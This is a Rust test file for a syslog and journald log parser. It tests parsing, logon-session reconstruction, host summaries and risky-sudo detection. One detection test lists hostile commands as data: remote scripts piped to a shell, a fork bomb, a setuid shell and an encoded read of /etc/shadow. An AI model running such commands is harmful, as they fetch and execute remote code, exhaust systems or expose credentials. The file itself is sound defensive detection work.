//! Rows of what a log says and what its table, sessions and hosts should be.

use proptest::prelude::*;
use serde_json::{Map, Value, json};

use super::*;
use crate::table::read::{ReadOptions, read as read_file};
use crate::table::{JsonOptions, JsonShape};

fn read(text: &str, options: &SyslogOptions) -> Result<Table> {
    read_bytes(text.as_bytes().to_vec(), options, &mut Progress::none())
}

fn of_2024() -> SyslogOptions {
    SyslogOptions {
        year: Some(2024),
        ..SyslogOptions::default()
    }
}

fn show(table: &Table, names: &str) -> String {
    let shape = JsonOptions {
        shape: JsonShape::Ndjson,
    };
    let json = table.to_json(&shape);
    let text = String::from_utf8_lossy(&json).into_owned();
    let rows = text.lines().map(|line| {
        let row: Map<String, Value> = serde_json::from_str(line).expect("JSON");
        let values = names.split(' ').map(|name| match row.get(name) {
            None => "(no column)".to_string(),
            Some(Value::Null) => "-".into(),
            Some(Value::String(text)) => text.replace("2024-01-01T00:", "").replace('Z', ""),
            Some(other) => other.to_string(),
        });
        values.collect::<Vec<_>>().join("|")
    });
    rows.collect::<Vec<_>>().join(" / ")
}

#[test]
fn lines_into_rows() {
    let text = "<86>Jan  1 00:05:00 web1 sshd[12]: Accepted password for bob from 10.0.0.1 port 22 ssh2\r\n\n\
        -- Boot 0123abc --\n<165>1 2024-01-01T00:06:00Z web2 app - ID47 [a b=\"c\"] hello\n\
        Jan  1 00:07:00 web1 kernel: [1.0] x\n";
    let table = read(text, &of_2024()).expect("right");
    assert_eq!(
        table.names().join(" "),
        "TimeGenerated Computer Facility SeverityLevel ProcessName ProcessID SyslogMessage MessageID StructuredData \
         Action Result User TargetUser SourceIP SourcePort Method TTY PWD Command"
    );
    for (names, expected) in [
        (
            "TimeGenerated Computer ProcessName ProcessID",
            "05:00|web1|sshd|12 / 06:00|web2|app|- / 07:00|web1|kernel|-",
        ),
        (
            "Facility SeverityLevel MessageID StructuredData",
            "authpriv|info|-|- / local4|notice|ID47|[a b=\"c\"] / -|-|-|-",
        ),
        (
            "Action Result TargetUser SourceIP SourcePort Method",
            "logon|success|bob|10.0.0.1|22|password / -|-|-|-|-|- / -|-|-|-|-|-",
        ),
        (
            "SyslogMessage",
            "Accepted password for bob from 10.0.0.1 port 22 ssh2 / hello / [1.0] x",
        ),
    ] {
        assert_eq!(show(&table, names), expected, "{names}");
    }
}

#[test]
fn journalds_json() {
    let text = r#"{"__REALTIME_TIMESTAMP":"1704067500000000","_HOSTNAME":"h","PRIORITY":"6","SYSLOG_FACILITY":"10","SYSLOG_IDENTIFIER":"sudo","_PID":"9","_EXE":"/usr/bin/sudo","MESSAGE":"bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls"}
{"__REALTIME_TIMESTAMP":"1704067560000000","_HOSTNAME":"h","PRIORITY":"3","_COMM":"x","MESSAGE":[104,255,105]}
"#;
    let table = read(text, &SyslogOptions::default()).expect("right");
    for (names, expected) in [
        (
            "TimeGenerated Computer Facility SeverityLevel ProcessName ProcessID",
            "05:00|h|authpriv|info|sudo|9 / 06:00|h|-|err|x|-",
        ),
        (
            "Action User Command _EXE",
            "sudo_command|bob|/bin/ls|/usr/bin/sudo / -|-|-|-",
        ),
        (
            "SyslogMessage",
            "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls / h\u{fffd}i",
        ),
    ] {
        assert_eq!(show(&table, names), expected, "{names}");
    }
    assert_eq!(table.report().expect("a report").format, "journald");
}

/// What is all times or all lists elsewhere is text in a log.
#[test]
fn journalds_messages_are_text_whatever_they_say() {
    for (message, expected) in [
        ("\"2024-01-01\"", "2024-01-01"),
        ("[104,105]", "hi"),
        ("12", "12"),
        ("null", ""),
    ] {
        let text = format!("{{\"_HOSTNAME\":\"2023-01-01\",\"MESSAGE\":{message}}}\n");
        let table = read(&text, &SyslogOptions::default()).expect("right");
        let expected = format!("2023-01-01|{expected}");
        assert_eq!(
            show(&table, "Computer SyslogMessage"),
            expected,
            "{message}"
        );
    }
}

#[test]
fn broken_lines_are_named_or_skipped() {
    let text = "Jan  1 00:05:00 h x: y\nhello\nJan 32 00:00:00 h x: y\n";
    let named = SyslogOptions {
        name: Some("auth.log".into()),
        ..of_2024()
    };
    let error = read(text, &named).expect_err("broken").to_string();
    assert!(
        error.starts_with("auth.log, line 2: ") && error.contains("`hello`"),
        "{error}"
    );
    let skip = SyslogOptions {
        on_bad_row: OnBadRow::Skip,
        ..named
    };
    let table = read(text, &skip).expect("the others");
    assert_eq!(
        (
            table.num_rows(),
            table.report().expect("a report").skipped_rows
        ),
        (1, 2)
    );
    let error = read(text, &SyslogOptions::default())
        .expect_err("no year")
        .to_string();
    assert!(error.contains("pass { year } or { now }"), "{error}");
}

#[test]
fn a_year_is_one_that_there_is() {
    for year in [0, 10_000, u32::MAX] {
        let options = SyslogOptions {
            year: Some(year),
            ..SyslogOptions::default()
        };
        let error = read("Jan  1 00:05:00 h x: y", &options).expect_err("no such year");
        assert_eq!(error.code(), "invalidArgument", "{year}");
    }
    let options = SyslogOptions {
        now: Some(f64::NAN),
        ..SyslogOptions::default()
    };
    let error = read("Jan  1 00:05:00 h x: y", &options).expect_err("no time");
    assert_eq!(error.code(), "invalidArgument");
    for now in [f64::INFINITY, -1e300, 0.0] {
        let options = SyslogOptions {
            now: Some(now),
            ..SyslogOptions::default()
        };
        let read = read("Jan  1 00:05:00 h x: y", &options);
        assert!(read.is_ok_and(|table| table.num_rows() == 1), "{now}");
    }
}

#[test]
fn a_table_gets_what_its_messages_mean() {
    let csv = "TimeGenerated,ProcessName,SyslogMessage,User\n2024-01-01T00:05:00Z,sudo,bob : TTY=pts/0   PWD=/   USER=root   COMMAND=/bin/ls,x\n";
    let table = read_file(
        csv.as_bytes().to_vec(),
        &ReadOptions::default(),
        &mut Progress::none(),
    )
    .expect("right");
    let table =
        read_table(&table, &SyslogOptions::default(), &mut Progress::none()).expect("right");
    assert_eq!(
        show(&table, "User User_ TargetUser Action Command"),
        "x|bob|root|sudo_command|/bin/ls"
    );
}

/// Messages of one minute each after the other, from 00:00.
fn log(messages: &[&str]) -> Table {
    let lines = messages
        .iter()
        .enumerate()
        .map(|(minute, message)| format!("Jan  1 00:{minute:02}:00 h {message}\n"));
    read(&lines.collect::<String>(), &of_2024()).expect("right")
}

fn sessions(table: &Table, options: &SessionOptions) -> String {
    let found = logon_sessions(table, options, &mut Progress::none()).expect("right");
    show(
        &found,
        "User TargetUser Service ProcessID Start End DurationSec",
    )
}

#[test]
fn sessions_of_every_kind() {
    let open = "pam_unix(sshd:session): session opened for user";
    let close = "pam_unix(sshd:session): session closed for user";
    for (name, messages, expected) in [
        (
            "nested and overlapping, told apart by process number",
            vec![
                format!("sshd[1]: {open} bob by (uid=0)"),
                format!("sshd[2]: {open} bob by (uid=0)"),
                format!("sshd[1]: {close} bob"),
                format!("sshd[3]: {open} eve(uid=5) by root(uid=0)"),
                format!("sshd[3]: {close} eve"),
                format!("sshd[2]: {close} bob"),
            ],
            "bob|bob|sshd|1|00:00|02:00|120.0 / bob|bob|sshd|2|01:00|05:00|240.0 / eve|eve|sshd|3|03:00|04:00|60.0",
        ),
        (
            "still open",
            vec![format!("sshd[1]: {open} bob by (uid=0)")],
            "bob|bob|sshd|1|00:00|-|-",
        ),
        (
            "sudo: who, and as whom",
            vec![
                "sudo: pam_unix(sudo:session): session opened for user root by bob(uid=0)".into(),
                "sudo: pam_unix(sudo:session): session closed for user root".into(),
            ],
            "bob|root|sudo|-|00:00|01:00|60.0",
        ),
        ("a closing alone", vec![format!("sshd[1]: {close} bob")], ""),
    ] {
        let messages: Vec<&str> = messages.iter().map(String::as_str).collect();
        assert_eq!(
            sessions(&log(&messages), &SessionOptions::default()),
            expected,
            "{name}"
        );
    }
    let headless = log(&[&format!("sshd[1]: {close} bob")]);
    let all = SessionOptions {
        without_start: true,
        ..SessionOptions::default()
    };
    assert_eq!(sessions(&headless, &all), "bob|bob|sshd|1|-|00:00|-");
    let found = logon_sessions(&headless, &SessionOptions::default(), &mut Progress::none())
        .expect("right");
    assert!(found.report().expect("a note").notes[0].starts_with("1 closings have no opening"));
    let only = SessionOptions {
        services: Some(vec!["sudo".into()]),
        ..SessionOptions::default()
    };
    assert_eq!(
        sessions(&log(&[&format!("sshd[1]: {open} bob by (uid=0)")]), &only),
        ""
    );
}

#[test]
fn a_logon_tells_where_a_session_comes_from() {
    let table = log(&[
        "sshd[1]: Accepted publickey for bob from 10.0.0.1 port 22 ssh2",
        "sshd[1]: pam_unix(sshd:session): session opened for user bob by (uid=0)",
    ]);
    let found =
        logon_sessions(&table, &SessionOptions::default(), &mut Progress::none()).expect("right");
    assert_eq!(
        show(&found, "User SourceIP Method"),
        "bob|10.0.0.1|publickey"
    );
}

#[test]
fn rows_from_young_to_old_and_of_one_time_are_put_right() {
    let csv = |rows: &[(&str, &str)]| {
        let rows = rows.iter().map(|(time, what)| {
            format!("2024-01-01T00:{time}Z,pam_unix(sudo:session): session {what} for user root\n")
        });
        let text = format!("TimeGenerated,SyslogMessage\n{}", rows.collect::<String>());
        read_file(
            text.into_bytes(),
            &ReadOptions::default(),
            &mut Progress::none(),
        )
        .expect("right")
    };
    for (name, rows, expected) in [
        (
            "from young to old",
            vec![
                ("02:00", "closed"),
                ("02:00", "opened"),
                ("01:00", "closed"),
                ("00:00", "opened"),
            ],
            "-|root|sudo|-|00:00|01:00|60.0 / -|root|sudo|-|02:00|02:00|0.0",
        ),
        (
            "a closing before its opening, of one time",
            vec![
                ("00:00", "closed"),
                ("00:00", "opened"),
                ("01:00", "opened"),
                ("02:00", "closed"),
            ],
            "-|root|sudo|-|00:00|00:00|0.0 / -|root|sudo|-|01:00|02:00|60.0",
        ),
    ] {
        assert_eq!(
            sessions(&csv(&rows), &SessionOptions::default()),
            expected,
            "{name}"
        );
    }
}

fn risky(table: &Table, options: &RiskySudoOptions) -> String {
    let found = risky_sudo_sessions(table, options, &mut Progress::none()).expect("right");
    show(
        &found,
        "Session User Reason Command Result SourceIndex Start",
    )
}

#[test]
fn risky_sudo() {
    let command = |user: &str, command: &str| {
        format!("sudo: {user} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}")
    };
    let open = |user: &str| {
        format!("sudo: pam_unix(sudo:session): session opened for user root by {user}(uid=0)")
    };
    let close = "sudo: pam_unix(sudo:session): session closed for user root".to_string();
    let lines: Vec<String> = [
        vec![command("bob", "/bin/ls"), open("bob"), close.clone()],
        vec![open("bob"), command("bob", "/bin/bash"), close.clone()],
        vec![
            command("eve", "command")
                .replace("eve : ", "eve : user NOT in sudoers ; ")
                .replace("COMMAND=command", "COMMAND=/bin/sh"),
        ],
        vec![command("bob", "/usr/bin/vim finish.sh"), open("bob")],
    ]
    .concat();
    let lines = lines
        .iter()
        .map(|line| format!("Jan  1 00:00:00 h {line}\n"));
    let table = read(&lines.collect::<String>(), &of_2024()).expect("right");
    assert_eq!(
        risky(&table, &RiskySudoOptions::default()),
        "1|bob|risky command|/bin/bash|success|4|00:00 / -|eve|risky command|/bin/sh|failure|6|-"
    );
    let rule = |pattern: &str| {
        let rule = json!({ "id": "own", "name": "x", "severity": "low", "pattern": pattern });
        vec![serde_json::from_value(rule).expect("a rule")]
    };
    let own = RiskySudoOptions {
        rules: rule("vim"),
        built_in_rules: Some(false),
        burst_commands: 3,
        burst_seconds: 1.0,
        ..RiskySudoOptions::default()
    };
    assert_eq!(
        risky(&table, &own),
        "0|bob|command burst|/bin/ls|success|0|00:00 / 1|bob|command burst|/bin/bash|success|4|00:00 / \
         2|bob|risky command|/usr/bin/vim finish.sh|success|7|00:00 / 2|bob|command burst|/usr/bin/vim finish.sh|success|7|00:00"
    );
    for (name, options) in [
        (
            "a pattern",
            RiskySudoOptions {
                rules: rule("("),
                ..RiskySudoOptions::default()
            },
        ),
        (
            "a burst of one",
            RiskySudoOptions {
                burst_commands: 1,
                ..RiskySudoOptions::default()
            },
        ),
    ] {
        let error = risky_sudo_sessions(&table, &options, &mut Progress::none()).expect_err(name);
        assert_eq!(error.code(), "invalidArgument", "{name}");
    }
}

#[test]
fn many_commands_of_one_second_take_time_by_their_number() {
    let command = "sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls";
    let open = "sudo: pam_unix(sudo:session): session opened for user root by eve(uid=0)";
    let text = format!("Jan  1 00:00:00 h {command}\nJan  1 00:00:00 h {open}\n").repeat(30_000);
    let table = read(&text, &of_2024()).expect("right");
    assert_eq!(
        risky(&table, &RiskySudoOptions::default())
            .split(" / ")
            .count(),
        30_000
    );
}

#[test]
fn which_commands_are_risky() {
    for (command, expected) in [
        ("/usr/bin/wget http://a.example/c | sh", true),
        ("curl -s http://a.example|sudo bash", true),
        (":(){ : | : & } ; :", true),
        // Of the rules of command lines, not of five for sudo alone.
        ("/usr/bin/chmod u+s /tmp/sh", true),
        ("/bin/sh -c 'echo Y2F0IC9ldGMvc2hhZG93 | base64 -d'", true),
        ("certutil -urlcache -f http://a.example/x", false),
        ("/usr/bin/curl -O http://a.example/y.tar", false),
        ("/bin/cat /home/u/.ssh/authorized_keys", true),
        (":(){ :|:& };:", true),
        ("/bin/mv x /dev/null", true),
        ("/bin/bash", true),
        ("/bin/bash -i", true),
        ("/bin/bash /usr/local/bin/backup.sh", false),
        ("/usr/bin/wget finish", false),
        ("/usr/bin/rsync", false),
    ] {
        let line = format!("sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}");
        let found = risky(&log(&[&line]), &RiskySudoOptions::default());
        assert_eq!(!found.is_empty(), expected, "{command}");
    }
}

#[test]
fn hosts() {
    let text = "Jan  1 00:00:00 b sshd[1]: Accepted password for bob from 10.0.0.1 port 22 ssh2\n\
        Jan  1 00:01:00 a kernel: x\n\
        Jan  1 00:02:00 b sshd[2]: Failed password for eve from 10.0.0.2 port 22 ssh2\n\
        Jan  1 00:03:00 b sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls\n";
    let table = read(text, &of_2024()).expect("right");
    let summary = |options| host_summary(&table, &options, &mut Progress::none()).expect("right");
    let all = summary(SummaryOptions::default());
    assert_eq!(
        show(&all, "Computer Messages FirstSeen LastSeen"),
        "a|1|01:00|01:00 / b|3|00:00|03:00"
    );
    assert_eq!(
        show(&all, "Processes Users"),
        "[\"kernel\"]|[] / [\"sshd\",\"sudo\"]|[\"bob\",\"root\"]"
    );
    assert_eq!(
        show(&all, "SourceIPs Logons FailedLogons SudoCommands Sessions"),
        "[]|0|0|0|0 / [\"10.0.0.1\",\"10.0.0.2\"]|1|1|1|0"
    );
    let one = summary(SummaryOptions {
        hosts: Some(vec!["a".into()]),
    });
    assert_eq!(show(&one, "Computer"), "a");
}

proptest! {
    #[test]
    fn no_text_panics(text in "(<[0-9]{1,3}>1? ?|Jan  ?[0-9]{1,2} [0-2][0-9]:00:00 |2024-01-01T00:00:00Z |[a-z]{1,3} |sshd\\[[0-9]\\]: |sudo: |pam_unix\\(x:session\\): session (opened|closed) for user a|Accepted a for b from |TTY=|COMMAND=| : |\\[|\\]|\"|-|\n|é){0,40}") {
        let skip = SyslogOptions { on_bad_row: OnBadRow::Skip, ..of_2024() };
        let table = read(&text, &skip).expect("bad lines are skipped");
        logon_sessions(&table, &SessionOptions::default(), &mut Progress::none()).expect("its columns are right");
        risky_sudo_sessions(&table, &RiskySudoOptions::default(), &mut Progress::none()).expect("its columns are right");
        host_summary(&table, &SummaryOptions::default(), &mut Progress::none()).expect("its columns are right");
    }

    /// Each session of a process of its own is found, however they overlap.
    #[test]
    fn overlapping_sessions_are_found(spans in prop::collection::vec((0..30_u32, 0..30_u32), 1..20)) {
        let mut lines = Vec::new();
        for (pid, (start, length)) in spans.iter().enumerate() {
            lines.push((*start, format!("sshd[{pid}]: pam_unix(sshd:session): session opened for user bob by (uid=0)")));
            lines.push((start + length, format!("sshd[{pid}]: pam_unix(sshd:session): session closed for user bob")));
        }
        lines.sort_by_key(|line| line.0);
        let text: String = lines.iter().map(|(minute, text)| format!("Jan  1 00:{minute:02}:00 h {text}\n")).collect();
        let table = read(&text, &of_2024()).expect("right");
        let found = logon_sessions(&table, &SessionOptions::default(), &mut Progress::none()).expect("right");
        let durations = found.f64("DurationSec").expect("a column");
        let pids = found.i64("ProcessID").expect("a column");
        let mut lengths: Vec<(i64, f64)> = pids.values().iter().copied().zip(durations.values().iter().copied()).collect();
        lengths.sort_by_key(|length| length.0);
        let expected: Vec<(i64, f64)> = spans.iter().enumerate().map(|(pid, span)| (pid as i64, f64::from(span.1) * 60.0)).collect();
        prop_assert_eq!(lengths, expected);
    }
}
